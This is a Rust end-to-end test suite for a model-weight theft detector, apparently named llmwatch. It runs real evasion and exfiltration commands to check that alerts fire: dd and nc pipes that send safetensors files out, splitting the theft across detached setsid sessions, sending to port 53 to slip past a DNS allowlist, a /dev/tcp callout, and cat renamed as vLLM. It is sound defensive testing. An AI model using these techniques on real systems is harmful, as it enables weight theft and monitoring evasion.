//! The weight rules against the ways around them a person with a shell tries first, end to
//! end: real processes, the real agent, alerts as a user receives them. Each test says the
//! bypass it closes; a negative check waits for a later positive marker, never a sleep.
use std::{
    path::Path,
    process::{Command, Stdio},
};

use llmwatch_e2e::{Agent, TempDir, Tool, Value, secs, write_safetensors};

const MIB: usize = 1 << 20;

fn write_config(dir: &Path, yaml: &str) -> String {
    let p = dir.join("llmwatch.yaml");
    std::fs::write(&p, yaml).unwrap();
    p.to_str().unwrap().to_string()
}

fn alert(rule: &'static str) -> impl Fn(&Value) -> bool {
    move |v| v["rule"] == rule
}

fn about(rule: &'static str, pid: u32) -> impl Fn(&Value) -> bool {
    move |v| v["rule"] == rule && v["process"]["pid"] == pid
}

fn sh(script: &str) {
    let status = Command::new("bash").arg("-c").arg(script).status().unwrap();
    assert!(status.success(), "{script}");
}

/// Runs `program args` to completion with its output discarded; its pid.
fn run(program: &str, args: &[&str]) -> u32 {
    let child = Command::new(program)
        .args(args)
        .stdout(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    let pid = child.id();
    assert!(
        child.wait_with_output().unwrap().status.success(),
        "{program} {args:?}"
    );
    pid
}

/// A TCP listener on `ip` (any loopback address) that counts what one connection sends.
fn sink_at(ip: &str, port: u16) -> (u16, std::thread::JoinHandle<u64>) {
    let listener =
        std::net::TcpListener::bind((ip, port)).unwrap_or_else(|e| panic!("bind {ip}:{port}: {e}"));
    let port = listener.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        use std::io::Read as _;
        let (mut s, _) = listener.accept().unwrap();
        let mut total = 0u64;
        let mut buf = vec![0u8; 1 << 16];
        while let Ok(n) = s.read(&mut buf) {
            if n == 0 {
                break;
            }
            total += n as u64;
        }
        total
    });
    (port, h)
}

fn alerts_about(agent: &Agent, pid: u32) -> Vec<&Value> {
    agent
        .seen
        .iter()
        .filter(|v| v.get("rule").is_some() && v["process"]["pid"] == pid)
        .collect()
}

/// Item 1, no cliff at a read fraction: 49% of a 64 MiB adapter read and sent used to be a
/// medium "unexpected reader" only. A tenth of the file sent is exfiltration.
#[test]
fn half_a_file_sent_is_exfiltration_not_a_medium_read() {
    let dir = TempDir::new("half");
    let model = dir.path().join("adapter_model.safetensors");
    write_safetensors(&model, 64 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let (port, sink) = sink_at("127.0.0.1", 0);
    sh(&format!(
        "dd if={} bs=1M count=31 status=none | nc -N 127.0.0.1 {port}",
        model.display()
    ));
    assert_eq!(sink.join().unwrap(), 31 * MIB as u64);
    let a = agent
        .wait_for(secs(10), |v| {
            alert("weight.exfiltration")(v) && v["network"][0]["port"] == port
        })
        .expect("49% sent raised no weight.exfiltration");
    assert_eq!(a["severity"], "critical");
    let read = a["files"][0]["bytes_read"].as_u64().unwrap();
    assert!(
        read >= (64 * MIB / 10) as u64 && read <= (31 * MIB) as u64,
        "bytes_read {read}"
    );
}

/// Item 1, per user: two runs in two sessions (no process tree in common) each send 6% of the
/// file, under the threshold alone; the user's flow is 12%, one theft.
#[test]
fn two_detached_runs_that_each_send_a_little_are_one_flow() {
    let dir = TempDir::new("split");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 32 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let mut ports = Vec::new();
    for skip in [0, 2] {
        let (port, sink) = sink_at("127.0.0.1", 0);
        // setsid -f: a new session whose parent is init, as a second login would be.
        sh(&format!(
            "setsid -f -w bash -c 'dd if={} bs=1M skip={skip} count=2 status=none | nc -N 127.0.0.1 {port}'",
            model.display()
        ));
        assert_eq!(sink.join().unwrap(), 2 * MIB as u64);
        ports.push(port);
    }
    let a = agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("the user's two small sends were not judged together");
    let summary = a["summary"].as_str().unwrap();
    assert!(
        summary.contains("the rest of uid 0"),
        "judged per user: {summary}"
    );
    let dests: Vec<u64> = a["network"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["port"].as_u64().unwrap())
        .collect();
    for p in &ports {
        assert!(dests.contains(&(*p as u64)), "both sends on the alert: {a:#}");
    }
    assert_eq!(a["files"][0]["bytes_read"], 4 * MIB as u64);
}

/// Item 1, bulk reads per user: four detached runs each read 15 MiB of a 64 MiB file (each
/// under unexpected_reader's 16 MiB); together they read the file.
#[test]
fn small_reads_by_many_runs_add_up_to_a_bulk_read() {
    let dir = TempDir::new("quarters");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 64 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    for skip in [0, 15, 30, 45] {
        sh(&format!(
            "setsid -f -w dd if={} of=/dev/null bs=1M skip={skip} count=15 status=none",
            model.display()
        ));
    }
    let a = agent
        .wait_for(secs(10), alert("weight.bulk_read"))
        .expect("four quarter reads raised no bulk read");
    assert!(
        a["files"][0]["bytes_read"].as_u64().unwrap() >= (32 * MIB) as u64,
        "{a:#}"
    );
    assert!(
        a["summary"].as_str().unwrap().contains("uid 0"),
        "{}",
        a["summary"]
    );
    let early: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| alert("weight.unexpected_reader")(v))
        .collect();
    assert!(
        early.is_empty(),
        "each run alone read under min_bytes: {early:#?}"
    );
}

/// Item 2: the default allowlist `:53` allows DNS connections, not a transfer of weights to
/// any host that listens on port 53.
#[test]
fn weights_sent_to_port_53_are_exfiltration() {
    let dir = TempDir::new("port53");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 4 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    // Anyone can listen on port 53 (here root, on a loopback address of its own).
    let (_, sink) = sink_at("127.0.0.54", 53);
    sh(&format!("nc -N 127.0.0.54 53 < {}", model.display()));
    assert_eq!(sink.join().unwrap(), 4 * MIB as u64);
    let a = agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("weights sent to :53 raised nothing");
    assert_eq!(a["network"][0]["port"], 53);
}

/// Item 2: an entry that names the destination does exempt it; the marker is the same send to
/// a destination it does not name.
#[test]
fn a_destination_named_by_address_may_receive_weights() {
    let dir = TempDir::new("named");
    let cfgdir = TempDir::new("named-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 4 * MIB);
    let cfg = write_config(cfgdir.path(), "egress: {allow: [':53', '127.0.0.3']}\n");
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let (allowed, a_sink) = sink_at("127.0.0.3", 0);
    sh(&format!("nc -N 127.0.0.3 {allowed} < {}", model.display()));
    let (other, o_sink) = sink_at("127.0.0.4", 0);
    sh(&format!("nc -N 127.0.0.4 {other} < {}", model.display()));
    assert_eq!(a_sink.join().unwrap() + o_sink.join().unwrap(), 8 * MIB as u64);
    let hit = agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("marker: the unnamed destination");
    assert_eq!(hit["network"][0]["dest"], "127.0.0.4", "{hit:#}");
    let to_named: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| alert("weight.exfiltration")(v) && v["network"][0]["dest"] == "127.0.0.3")
        .collect();
    assert!(to_named.is_empty(), "{to_named:#?}");
}

/// Item 2 and 4: `config validate` explains port-only and `*` entries and weak identities,
/// and still accepts the file.
#[test]
fn config_validate_warns_about_entries_that_allow_less_than_they_seem() {
    let dir = TempDir::new("warn");
    let cfg = write_config(
        dir.path(),
        "servers:\n  - {name: by-name, argv: ['*vllm serve*']}\n  - {name: pinned, argv: ['*sglang*'], users: [sglang]}\negress:\n  allow: [':53', '*', '10.0.0.0/8']\n",
    );
    let out = Command::new(llmwatch_e2e::agent_binary())
        .args(["config", "validate", &cfg])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("ok, 3 warnings"), "{stdout}");
    assert!(
        stdout.contains("servers[0] (line 2)") && stdout.contains("name or command line only"),
        "{stdout}"
    );
    assert!(
        stdout.contains("egress.allow[0]") && stdout.contains("not transfers of weights"),
        "{stdout}"
    );
    assert!(stdout.contains("egress.allow[1]"), "{stdout}");
    assert!(
        !stdout.contains("servers[1]"),
        "a pinned server is no warning: {stdout}"
    );
}

/// Item 3: what a booby-trapped model does while its loader runs. The start-up window
/// exempts reads, not connections.
#[test]
fn a_server_dialing_out_while_loading_its_model_raises_egress() {
    let dir = TempDir::new("dial");
    let cfgdir = TempDir::new("dial-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 4 * MIB);
    let cfg = write_config(
        cfgdir.path(),
        "servers:\n  - {name: test-server, argv: ['fake-inference-server *'], users: [root], startup_window: 10m}\n",
    );
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let (port, sink) = sink_at("127.0.0.1", 0);
    let server = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec -a fake-inference-server bash -c 'cat {} > /dev/null; exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3' x",
            model.display()
        ))
        .spawn()
        .unwrap();
    let pid = server.id();
    assert!(server.wait_with_output().unwrap().status.success());
    sink.join().unwrap();
    let a = agent
        .wait_for(secs(10), about("inference.egress", pid))
        .expect("a server connecting out during start-up raised nothing");
    let summary = a["summary"].as_str().unwrap();
    assert!(summary.contains("while starting up"), "{summary}");
    assert_eq!(a["network"][0]["port"], port);
    // Its own start-up read is still no unexpected read.
    assert!(
        alerts_about(&agent, pid)
            .iter()
            .all(|v| v["rule"] != "weight.unexpected_reader")
    );
}

/// The fake server of item 3: loads the model, answers one client with all of it, then (on
/// the next step) sends it to a host that never connected.
const SERVER_PY: &str = r#"
import socket, sys
model, port, out_host, out_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
data = open(model, "rb").read()
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", port))
srv.listen(1)
print("listening 1", flush=True)
c, _ = srv.accept()
c.recv(16)
c.sendall(data)
c.close()
print("served 1", flush=True)
sys.stdin.readline()
o = socket.create_connection((out_host, out_port))
o.sendall(data)
o.close()
print("sent 1", flush=True)
sys.stdin.readline()
"#;

/// Item 3 and 4: a pinned server answering its client is its job; the same server sending the
/// weights to a host that never connected is exfiltration, start-up or not.
#[test]
fn a_pinned_server_serves_clients_but_sending_weights_elsewhere_is_exfiltration() {
    let dir = TempDir::new("serve");
    let cfgdir = TempDir::new("serve-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 4 * MIB);
    let script = cfgdir.path().join("fake_server.py");
    std::fs::write(&script, SERVER_PY).unwrap();
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let cfg = write_config(
        cfgdir.path(),
        "servers:\n  - {name: test-server, argv: ['*fake_server.py*'], users: [root]}\negress: {allow: [':53']}\n",
    );
    let mut agent = Agent::watching(
        &[dir.path()],
        &["--config", &cfg, "--inference-port", &port.to_string()],
    );
    let (out_port, out_sink) = sink_at("127.0.0.2", 0);
    let mut server = Tool::spawn(
        "python3",
        &[
            script.to_str().unwrap(),
            model.to_str().unwrap(),
            &port.to_string(),
            "127.0.0.2",
            &out_port.to_string(),
        ],
    );
    server.expect("listening");
    let mut client = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    std::io::Write::write_all(&mut client, b"GET\n").unwrap();
    let mut got = Vec::new();
    std::io::Read::read_to_end(&mut client, &mut got).unwrap();
    assert_eq!(got.len(), 4 * MIB);
    server.expect("served");
    server.step();
    server.expect("sent");
    assert_eq!(out_sink.join().unwrap(), 4 * MIB as u64);
    let a = agent
        .wait_for(secs(10), |v| {
            alert("weight.exfiltration")(v) && v["network"][0]["dest"] == "127.0.0.2"
        })
        .expect("the server sending its weights to a stranger raised nothing");
    assert_eq!(a["process"]["pid"], server.pid());
    let to_client: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| {
            alert("weight.exfiltration")(v)
                && v["network"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|n| n["dest"] == "127.0.0.1")
        })
        .collect();
    assert!(
        to_client.is_empty(),
        "answering a client is no exfiltration: {to_client:#?}"
    );
    assert!(
        agent
            .wait_for(secs(5), about("inference.egress", server.pid()))
            .is_some(),
        "the connection out is egress too"
    );
    server.finish();
}

/// Item 4: a command line is not an identity. `cat` renamed to look like vLLM (the built-in
/// identity matches by argv) read a whole model and sent it: no alert at all before.
#[test]
fn a_process_named_like_a_server_gets_no_exemption_for_sending() {
    let dir = TempDir::new("named-server");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 8 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let (port, sink) = sink_at("127.0.0.1", 0);
    sh(&format!(
        "(exec -a 'python3 -m vllm.entrypoints.openai.api_server' cat {}) | nc -N 127.0.0.1 {port}",
        model.display()
    ));
    assert_eq!(sink.join().unwrap(), 8 * MIB as u64);
    let a = agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("a fake vLLM command line exempted the theft");
    assert_eq!(a["severity"], "critical");
}

/// Item 5: a nightly integrity check raises nothing; a copy of the same program elsewhere, or
/// a trusted program sending what it read, is judged as anyone.
#[test]
fn a_trusted_reader_raises_nothing_but_a_copy_of_it_and_its_sends_are_judged() {
    let dir = TempDir::new("reader");
    let cfgdir = TempDir::new("reader-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 8 * MIB);
    let sha = std::fs::canonicalize("/usr/bin/sha256sum").unwrap();
    let cat = std::fs::canonicalize("/usr/bin/cat").unwrap();
    let cfg = write_config(
        cfgdir.path(),
        &format!(
            "readers:\n  - {{name: integrity, exe: ['{}', '{}'], users: [root], files: ['{}/*']}}\n",
            sha.display(),
            cat.display(),
            dir.path().display()
        ),
    );
    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
    let sum = run("sha256sum", &[model.to_str().unwrap()]);
    // A copy of sha256sum is not the trusted reader: the marker.
    let copy = cfgdir.path().join("sha256sum");
    std::fs::copy(&sha, &copy).unwrap();
    let copied = run(copy.to_str().unwrap(), &[model.to_str().unwrap()]);
    agent
        .wait_for(secs(10), about("weight.unexpected_reader", copied))
        .expect("a copy of the trusted reader was trusted");
    assert!(
        alerts_about(&agent, sum).is_empty(),
        "{:#?}",
        alerts_about(&agent, sum)
    );
    // A trusted reader's sends are judged like anyone's.
    let (port, sink) = sink_at("127.0.0.1", 0);
    sh(&format!("cat {} | nc -N 127.0.0.1 {port}", model.display()));
    assert_eq!(sink.join().unwrap(), 8 * MIB as u64);
    agent
        .wait_for(secs(10), alert("weight.exfiltration"))
        .expect("a trusted reader's upload raised nothing");
}

/// Item 5: outside its schedule a trusted reader is anyone. Sunday 03:00 UTC (agent clock).
#[test]
fn a_trusted_reader_outside_its_schedule_is_judged_as_anyone() {
    let dir = TempDir::new("schedule");
    let cfgdir = TempDir::new("schedule-cfg");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 8 * MIB);
    let sha = std::fs::canonicalize("/usr/bin/sha256sum").unwrap();
    for (window, trusted) in [("02:00', end: '04:00", true), ("05:00', end: '06:00", false)] {
        let cfg = write_config(
            cfgdir.path(),
            &format!(
                "readers:\n  - {{name: nightly, exe: ['{}'], schedule: {{timezone: UTC, days: [sun], start: '{window}'}}}}\n",
                sha.display()
            ),
        );
        let mut agent = Agent::watching(
            &[dir.path()],
            &["--config", &cfg, "--clock-start", "2026-11-22T03:00:00Z"],
        );
        let sum = run("sha256sum", &[model.to_str().unwrap()]);
        let marker = run(
            "dd",
            &[&format!("if={}", model.display()), "of=/dev/null", "bs=1M"],
        );
        agent
            .wait_for(secs(10), about("weight.unexpected_reader", marker))
            .expect("marker");
        let hits = alerts_about(&agent, sum);
        assert_eq!(hits.is_empty(), trusted, "schedule {window}: {hits:#?}");
    }
}

/// Item 6: looking at a model (its type, its header) is an access, not an alert; reading
/// past `min_bytes` is. The marker is a 20 MiB read.
#[test]
fn file_head_and_xxd_on_a_model_raise_nothing() {
    let dir = TempDir::new("peek");
    let model = dir.path().join("model.safetensors");
    write_safetensors(&model, 64 * MIB);
    let mut agent = Agent::watching(&[dir.path()], &[]);
    let m = model.to_str().unwrap();
    let file = run("file", &[m]);
    let head = run("head", &["-c", "64", m]);
    let xxd = run("xxd", &["-l", "256", m]);
    let marker = run("dd", &[&format!("if={m}"), "of=/dev/null", "bs=1M", "count=20"]);
    let a = agent
        .wait_for(secs(10), about("weight.unexpected_reader", marker))
        .expect("marker: a 20 MiB read");
    assert_eq!(a["severity"], "medium");
    for (name, pid) in [("file", file), ("head", head), ("xxd", xxd)] {
        assert!(
            alerts_about(&agent, pid).is_empty(),
            "{name}: {:#?}",
            alerts_about(&agent, pid)
        );
        assert!(
            agent
                .seen
                .iter()
                .any(|v| v["kind"] == "file_open" && v["task"]["pid"] == pid),
            "{name}'s open was not even seen"
        );
    }
}
